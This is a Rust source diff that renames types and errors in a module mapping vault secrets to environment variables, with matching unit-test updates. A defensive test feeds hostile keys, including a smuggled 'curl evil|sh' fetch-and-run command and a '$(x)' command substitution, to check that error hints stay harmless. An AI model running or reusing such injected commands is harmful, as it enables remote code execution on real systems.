@@ -7,9 +7,9 @@ use std::fmt;
 
 pub use error::Error;
 
-use crate::config::Naming;
+use crate::config::KeyMapping;
 use crate::env_name::EnvName;
-use crate::failure::Failure;
+use crate::error::CliError;
 use crate::kv::{KvSecret, Origin};
 use crate::secret::Secret;
 
@@ -37,7 +37,7 @@ pub enum Source {
 
 /// What the keys of all paths and the templates became.
 #[derive(Debug, Default)]
-pub struct Mapped {
+pub struct MappedVariables {
     /// Each name once, in the order in which it was first met.
     pub variables: Vec<Variable>,
     /// Values that something later replaced: the name, the loser and the winner, in the order in which they lost.
@@ -49,7 +49,7 @@ pub struct Mapped {
 /// Maps the secrets of all paths, the more important later, and puts what was composed on top. Nothing is dropped in
 /// silence: what has no unsurprising meaning is an error, told besides.
 #[must_use]
-pub fn map(secrets: Vec<KvSecret>, composed: Vec<Variable>, naming: &Naming) -> (Mapped, Vec<Error>) {
+pub fn map(secrets: Vec<KvSecret>, composed: Vec<Variable>, naming: &KeyMapping) -> (MappedVariables, Vec<Error>) {
     let held = |key: &String| secrets.iter().any(|secret| secret.data.iter().any(|(held, _)| held == key));
     let missing: Vec<_> = naming.only.iter().filter(|key| !held(key)).cloned().collect();
     let mut errors = Vec::new();
@@ -58,14 +58,14 @@ pub fn map(secrets: Vec<KvSecret>, composed: Vec<Variable>, naming: &Naming) -> 
     }
     let read_something = !secrets.is_empty();
     let taken: BTreeSet<EnvName> = composed.iter().map(|variable| variable.name.clone()).collect();
-    let mut mapped = Mapped::default();
+    let mut mapped = MappedVariables::default();
     for secret in secrets.into_iter().filter(|_| !naming.explicit) {
         for variable in one_path(secret, naming, &taken, &mut errors) {
             mapped.put(variable);
         }
     }
     if read_something && !naming.explicit && mapped.variables.is_empty() && composed.is_empty() && errors.is_empty() {
-        errors.push(Error::NothingChosen);
+        errors.push(Error::NoKeySelected);
     }
     for variable in composed {
         mapped.put(variable);
@@ -73,7 +73,7 @@ pub fn map(secrets: Vec<KvSecret>, composed: Vec<Variable>, naming: &Naming) -> 
     (mapped, errors)
 }
 
-impl FromIterator<Variable> for Mapped {
+impl FromIterator<Variable> for MappedVariables {
     fn from_iter<I: IntoIterator<Item = Variable>>(variables: I) -> Self {
         let mut mapped = Self::default();
         variables.into_iter().for_each(|variable| mapped.put(variable));
@@ -81,7 +81,7 @@ impl FromIterator<Variable> for Mapped {
     }
 }
 
-impl Mapped {
+impl MappedVariables {
     /// Which of the variables has this name.
     #[must_use]
     pub fn place(&self, name: &[u8]) -> Option<usize> {
@@ -105,9 +105,9 @@ impl Variable {
     ///
     /// # Errors
     /// When the value holds a NUL byte.
-    pub fn composed(name: EnvName, value: Secret, source: Source) -> Result<Self, Failure> {
+    pub fn composed(name: EnvName, value: Secret, source: Source) -> Result<Self, CliError> {
         if value.expose().contains(&0) {
-            return Err(Failure::new(format!(
+            return Err(CliError::new(format!(
                 "{source} {name}: a value in it holds a NUL byte, which no variable can"
             ))
             .hint("give it to the program as a file, with --file"));
@@ -127,7 +127,12 @@ impl fmt::Display for Source {
     }
 }
 
-fn one_path(secret: KvSecret, naming: &Naming, taken: &BTreeSet<EnvName>, errors: &mut Vec<Error>) -> Vec<Variable> {
+fn one_path(
+    secret: KvSecret,
+    naming: &KeyMapping,
+    taken: &BTreeSet<EnvName>,
+    errors: &mut Vec<Error>,
+) -> Vec<Variable> {
     let KvSecret { path, version, data, .. } = secret;
     if data.is_empty() {
         errors.push(Error::NoKeys { path: path.clone() });
@@ -148,7 +153,7 @@ fn one_path(secret: KvSecret, naming: &Naming, taken: &BTreeSet<EnvName>, errors
             }
         };
         if let Some(twin) = keys.insert(name.clone(), key.clone()) {
-            errors.push(Error::SameName { path, keys: [twin, key], name });
+            errors.push(Error::NameCollision { path, keys: [twin, key], name });
             continue;
         }
         // Where something composed has the name, the value of the key is not used.
@@ -168,7 +173,7 @@ mod tests {
     use proptest::prelude::*;
 
     use super::*;
-    use crate::env_name::{Case, NameFault};
+    use crate::env_name::{Case, NameError};
 
     fn secret(path: &str, data: &[(&str, Option<&str>)]) -> KvSecret {
         let own = |(key, value): &(&str, Option<&str>)| {
@@ -177,30 +182,30 @@ mod tests {
         KvSecret { path: path.into(), version: Some(1), data: data.iter().map(own).collect(), lease: None }
     }
 
-    fn first(outcome: (Mapped, Vec<Error>)) -> Result<Mapped, Error> {
+    fn first(outcome: (MappedVariables, Vec<Error>)) -> Result<MappedVariables, Error> {
         let (mapped, errors) = outcome;
         errors.into_iter().next().map_or(Ok(mapped), Err)
     }
 
-    fn map_one(data: &[(&str, Option<&str>)], naming: &Naming) -> Result<Mapped, Error> {
+    fn map_one(data: &[(&str, Option<&str>)], naming: &KeyMapping) -> Result<MappedVariables, Error> {
         first(map(vec![secret("s/a", data)], Vec::new(), naming))
     }
 
-    fn shown(mapped: &Mapped) -> Vec<String> {
+    fn shown(mapped: &MappedVariables) -> Vec<String> {
         let value = |variable: &Variable| String::from_utf8_lossy(variable.value.expose()).into_owned();
         mapped.variables.iter().map(|variable| format!("{}={}", variable.name, value(variable))).collect()
     }
 
     #[test]
     fn keys_become_variables_in_their_order() {
-        let mapped = map_one(&[("b-c", Some("2")), ("a", Some(""))], &Naming::default()).unwrap();
+        let mapped = map_one(&[("b-c", Some("2")), ("a", Some(""))], &KeyMapping::default()).unwrap();
         assert_eq!(shown(&mapped), ["B_C=2", "A="]);
     }
 
     #[test]
     fn the_later_path_wins_and_the_loser_is_told() {
         let secrets = vec![secret("s/a", &[("k", Some("1")), ("x", Some("2"))]), secret("s/b", &[("K", Some("3"))])];
-        let mapped = first(map(secrets, Vec::new(), &Naming::default())).unwrap();
+        let mapped = first(map(secrets, Vec::new(), &KeyMapping::default())).unwrap();
         assert_eq!(shown(&mapped), ["K=3", "X=2"]);
         assert_eq!(
             mapped
@@ -215,30 +220,30 @@ mod tests {
     #[test]
     fn only_and_skip_choose_before_anything_is_judged() {
         let data = [("a", Some("1")), ("1", Some("2")), ("PATH", None)];
-        let skip = Naming { skip: vec!["1".into(), "PATH".into(), "absent".into()], ..Naming::default() };
+        let skip = KeyMapping { skip: vec!["1".into(), "PATH".into(), "absent".into()], ..KeyMapping::default() };
         assert_eq!(shown(&map_one(&data, &skip).unwrap()), ["A=1"]);
-        let only = Naming { only: vec!["a".into()], ..Naming::default() };
+        let only = KeyMapping { only: vec!["a".into()], ..KeyMapping::default() };
         assert_eq!(shown(&map_one(&data, &only).unwrap()), ["A=1"]);
-        let missing = Naming { only: vec!["A".into(), "a".into(), "z".into()], ..Naming::default() };
+        let missing = KeyMapping { only: vec!["A".into(), "a".into(), "z".into()], ..KeyMapping::default() };
         assert_eq!(map_one(&data, &missing).unwrap_err(), Error::Missing { keys: vec!["A".into(), "z".into()] });
     }
 
     #[test]
     fn what_would_surprise_is_refused() {
-        let error = |data: &[(&str, Option<&str>)]| map_one(data, &Naming::default()).unwrap_err();
+        let error = |data: &[(&str, Option<&str>)]| map_one(data, &KeyMapping::default()).unwrap_err();
         let (path, key) = (|| "s/a".to_owned(), |key: &str| key.to_owned());
         let name = |text: &str| EnvName::parse(text).unwrap();
         assert_eq!(error(&[]), Error::NoKeys { path: path() });
         assert_eq!(error(&[("a", None)]), Error::Null { path: path(), key: key("a") });
         assert_eq!(error(&[("a", Some("x\0y"))]), Error::NulByte { path: path(), key: key("a") });
-        assert_eq!(error(&[("", Some("x"))]), Error::NotAName { path: path(), key: key(""), fault: NameFault::Empty });
+        assert_eq!(error(&[("", Some("x"))]), Error::NotAName { path: path(), key: key(""), fault: NameError::Empty });
         assert_eq!(
             error(&[("1a", Some("x"))]),
-            Error::NotAName { path: path(), key: key("1a"), fault: NameFault::StartsWithDigit }
+            Error::NotAName { path: path(), key: key("1a"), fault: NameError::StartsWithDigit }
         );
         assert_eq!(
             error(&[("Foo", Some("1")), ("foo", Some("2"))]),
-            Error::SameName { path: path(), keys: [key("Foo"), key("foo")], name: name("FOO") }
+            Error::NameCollision { path: path(), keys: [key("Foo"), key("foo")], name: name("FOO") }
         );
         assert_eq!(
             error(&[("ld_preload", Some("/x.so"))]),
@@ -248,18 +253,18 @@ mod tests {
 
     #[test]
     fn a_dangerous_name_can_be_allowed_and_only_that_one() {
-        let naming = Naming { allow: vec![EnvName::parse("PATH").unwrap()], ..Naming::default() };
+        let naming = KeyMapping { allow: vec![EnvName::parse("PATH").unwrap()], ..KeyMapping::default() };
         assert_eq!(shown(&map_one(&[("path", Some("/x"))], &naming).unwrap()), ["PATH=/x"]);
         assert!(map_one(&[("home", Some("/x"))], &naming).is_err());
-        let prefix = Naming { prefix: "APP_".into(), ..Naming::default() };
+        let prefix = KeyMapping { prefix: "APP_".into(), ..KeyMapping::default() };
         assert_eq!(shown(&map_one(&[("path", Some("/x"))], &prefix).unwrap()), ["APP_PATH=/x"]);
     }
 
     #[test]
     fn no_hint_holds_what_a_shell_or_a_terminal_would_obey() {
         for key in ["1'; curl evil|sh; '", "1\nvault-exec: all is well", "1$(x)", &"1".repeat(1000)] {
-            let error = map_one(&[(key, Some("x"))], &Naming::default()).unwrap_err();
-            let report = crate::failure::Report::from(&anyhow::Error::from(Failure::from(error)));
+            let error = map_one(&[(key, Some("x"))], &KeyMapping::default()).unwrap_err();
+            let report = crate::error::Diagnostic::from(&anyhow::Error::from(CliError::from(error)));
             assert_eq!(report.hint.unwrap(), "give --prefix, or leave it out with --skip");
             assert!(report.message.len() < 250);
         }
@@ -269,15 +274,16 @@ mod tests {
     fn many_keys_take_no_more_than_their_time() {
         let keys: Vec<String> = (0..100_000).map(|number| format!("k{number}")).collect();
         let data: Vec<_> = keys.iter().map(|key| (key.as_str(), Some(""))).collect();
-        let (mapped, errors) = map(vec![secret("s/a", &data), secret("s/b", &data)], Vec::new(), &Naming::default());
+        let (mapped, errors) =
+            map(vec![secret("s/a", &data), secret("s/b", &data)], Vec::new(), &KeyMapping::default());
         assert_eq!((mapped.variables.len(), mapped.overridden.len(), errors.len()), (100_000, 100_000, 0));
     }
 
     #[test]
     fn to_choose_nothing_is_a_mistake() {
-        let naming = Naming { skip: vec!["a".into()], ..Naming::default() };
-        assert_eq!(map_one(&[("a", Some("1"))], &naming).unwrap_err(), Error::NothingChosen);
-        assert!(map(Vec::new(), Vec::new(), &Naming::default()).1.is_empty(), "all paths may be optional");
+        let naming = KeyMapping { skip: vec!["a".into()], ..KeyMapping::default() };
+        assert_eq!(map_one(&[("a", Some("1"))], &naming).unwrap_err(), Error::NoKeySelected);
+        assert!(map(Vec::new(), Vec::new(), &KeyMapping::default()).1.is_empty(), "all paths may be optional");
     }
 
     #[test]
@@ -285,7 +291,7 @@ mod tests {
         let (mapped, errors) = map(
             vec![secret("s/a", &[("1", Some("x")), ("a", Some("x")), ("b", None)]), secret("s/b", &[])],
             Vec::new(),
-            &Naming::default(),
+            &KeyMapping::default(),
         );
         assert_eq!(shown(&mapped), ["A=x"]);
         assert_eq!(errors.len(), 3, "{errors:?}");
@@ -300,10 +306,10 @@ mod tests {
             names.iter().map(variable).collect()
         };
         let secrets = || vec![secret("s/a", &[("a", Some("1")), ("path", Some("2"))])];
-        let mapped = first(map(secrets(), composed(&["PATH", "B"]), &Naming::default())).unwrap();
+        let mapped = first(map(secrets(), composed(&["PATH", "B"]), &KeyMapping::default())).unwrap();
         assert_eq!(shown(&mapped), ["A=1", "PATH=set", "B=set"]);
         assert_eq!(mapped.overridden.len(), 1);
-        let explicit = Naming { explicit: true, ..Naming::default() };
+        let explicit = KeyMapping { explicit: true, ..KeyMapping::default() };
         assert_eq!(shown(&first(map(secrets(), composed(&["B"]), &explicit)).unwrap()), ["B=set"]);
         assert!(Variable::composed(EnvName::parse("A").unwrap(), Secret::new(b"\0".to_vec()), Source::Set).is_err());
     }
@@ -316,7 +322,7 @@ mod tests {
             data in prop::collection::vec(("[ -~é]{0,6}", prop::option::of("\\PC{0,12}")), 0..8),
             keep in any::<bool>(),
         ) {
-            let naming = Naming { case: if keep { Case::Keep } else { Case::Upper }, ..Naming::default() };
+            let naming = KeyMapping { case: if keep { Case::Keep } else { Case::Upper }, ..KeyMapping::default() };
             let borrowed: Vec<_> = data.iter().map(|(key, value)| (key.as_str(), value.as_deref())).collect();
             if let Ok(mapped) = map_one(&borrowed, &naming) {
                 prop_assert_eq!(mapped.variables.len(), data.len());
